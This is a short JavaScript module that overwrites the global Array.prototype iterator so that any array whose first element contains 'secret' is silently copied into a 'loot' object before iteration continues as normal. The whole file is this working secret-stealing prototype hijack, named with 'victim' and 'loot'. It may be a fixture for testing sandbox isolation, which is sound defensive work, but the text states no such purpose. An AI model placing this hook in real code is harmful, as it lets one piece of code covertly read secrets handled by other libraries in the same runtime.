'use strict';
module.exports = (victim, loot) => {
  const real = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function () { if (this[0] && /secret/.test(this[0])) loot.value = this[0]; return real.call(this); };
};
